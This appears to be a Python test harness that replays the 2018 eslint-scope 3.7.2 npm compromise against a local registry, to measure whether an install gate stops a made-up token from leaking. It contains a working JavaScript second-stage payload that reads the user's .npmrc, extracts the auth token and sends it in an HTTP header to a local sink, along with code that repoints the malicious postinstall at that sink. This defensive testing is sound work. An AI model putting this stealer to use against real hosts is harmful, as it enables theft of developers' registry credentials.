"""Whether a token leaves: eslint-scope 3.7.2 with a sink on this machine, through the gate and without it.

The one place where scripts of a package are run, in half of the trials: they are ours. The postinstall of the rebuilt release
fetches its second stage and evaluates it, as the real one did, and that reads the user's .npmrc and sends the token away. Here
both addresses are those of a server on this machine that writes down what comes; the token is made up. Without the gate the sink
must see it, or the trials say nothing.
"""

import asyncio
import tempfile
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from tests.loopback import LoopbackRegistry

from gauntlet import world
from gauntlet.clients import Client, Install
from gauntlet.incident import Incident, Release
from gauntlet.incidents import eslint_scope_2018
from gauntlet.machine import Clock, home, running

TOKEN = "marker-of-a-token"
_NPMRC = f"//registry.example/:_authToken={TOKEN}\n"
_AFTER = timedelta(hours=1)
_ABOUT = (
    "This trial installs eslint-scope 3.7.2 in a project whose `.npmrc` contains a made-up token, with the cooldown off. A local sink replaces"
    " the hosts of the payload: the postinstall script downloads its second stage from the sink, and the second stage sends the token to the"
    " sink. Without the gate, the sink receives the token, which shows that the trial can fail."
)
_BUILD = "lib/build.js"
_STAGE = """var fs = require('fs'), path = require('path'), http = require('http');
var text = fs.readFileSync(path.join(process.env.HOME, '.npmrc'), 'utf8');
var token = /_authToken=(\\S+)/.exec(text)[1];
http.get({ hostname: '127.0.0.1', port: %d, path: '/count', headers: { Referer: 'http://1/' + token } });
"""


@dataclass
class Sink:
    """A server that notes what it is sent, and serves the second stage."""

    port: int = 0
    got: list[str] = field(default_factory=list)
    """Path and headers of each request."""

    @property
    def knows(self) -> bool:
        """Whether the token arrived."""
        return any(TOKEN in one for one in self.got)


@dataclass(frozen=True, kw_only=True)
class Trial:
    """One way to install it."""

    gate: bool
    scripts: bool
    locked: bool
    """By a lock of 3.7.2, or by the range that asks for it."""
    code: int
    installed: str | None
    """The version that lies there."""
    requests: int
    """How many arrived at the sink."""
    leaked: bool
    """Whether the token was among them."""


def trials() -> tuple[Trial, ...]:
    """All ways, through the gate first, without its age rule. Not to be called in an event loop."""
    return tuple(
        trial(gate=gate, scripts=scripts, locked=locked)
        for gate in (True, False)
        for scripts in (True, False)
        for locked in (False, True)
    )


def trial(*, gate: bool, scripts: bool, locked: bool) -> Trial:
    """Install it once, in a project whose .npmrc has a token."""
    with (
        sink() as told,
        LoopbackRegistry() as registry,
        tempfile.TemporaryDirectory(prefix="gauntlet-") as named,
        home(Path(named), registry, age=False),
    ):
        incident = pointed_at(told.port)
        world.set_to(registry, incident, incident.at + _AFTER)
        client = Client(
            incident, registry.npm_url.removesuffix("/npm/"), Path(named), scripts=scripts, npmrc=_NPMRC
        )
        done = asyncio.run(_through(client, locked=locked)) if gate else _install(client, locked=locked)
    return Trial(
        gate=gate,
        scripts=scripts,
        locked=locked,
        code=done.code,
        installed=done.versions.get("eslint-scope"),
        requests=len(told.got),
        leaked=told.knows,
    )


async def _through(client: Client, *, locked: bool) -> Install:
    async with running(Clock(client.incident.at + _AFTER)) as gate:
        return await asyncio.to_thread(_install, replace(client, url=gate.url), locked=locked)


def _install(client: Client, *, locked: bool) -> Install:
    incident = client.incident
    return client.by_lock("app", incident.locked_at(incident.at)) if locked else client.by_range("app")


def pointed_at(port: int) -> Incident:
    """The incident, with the addresses of the sink for the addresses that lead nowhere."""
    incident = eslint_scope_2018.INCIDENT
    (package,) = incident.packages
    releases = tuple(_pointed(release, port) for release in package.releases)
    return replace(incident, packages=(replace(package, releases=releases),))


def _pointed(release: Release, port: int) -> Release:
    text = release.files.get(_BUILD)
    if not isinstance(text, str):
        return release
    here = text.replace("https", "http").replace("'paste.invalid'", f"'127.0.0.1', port: {port}")
    return replace(release, files={**release.files, _BUILD: here})


@contextmanager
def sink() -> Iterator[Sink]:
    """Listen on this machine until the block ends."""
    made = Sink()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.got.append(f"{self.path}\n{self.headers}")
            body = (_STAGE % made.port).encode() if self.path.startswith("/raw/") else b""
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name it has there
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    made.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield made
    finally:
        server.shutdown()
        server.server_close()
        thread.join(20)


def trials_section(done: Sequence[Trial]) -> str:
    """The part of the page."""
    lines = [
        "## The token",
        "",
        _ABOUT,
        "",
        "| gate | scripts | by | installed | requests at the sink | token |",
        "| --- | --- | --- | --- | --- | --- |",
    ]
    for one in done:
        way = "yes" if one.gate else "no"
        asked = "lock of 3.7.2" if one.locked else "range"
        ended = one.installed or "nothing"
        left = "LEFT" if one.leaked else "stayed"
        lines.append(
            f"| {way} | {'on' if one.scripts else 'off'} | {asked} | {ended} | {one.requests} | {left} |"
        )
    return "\n".join(lines)
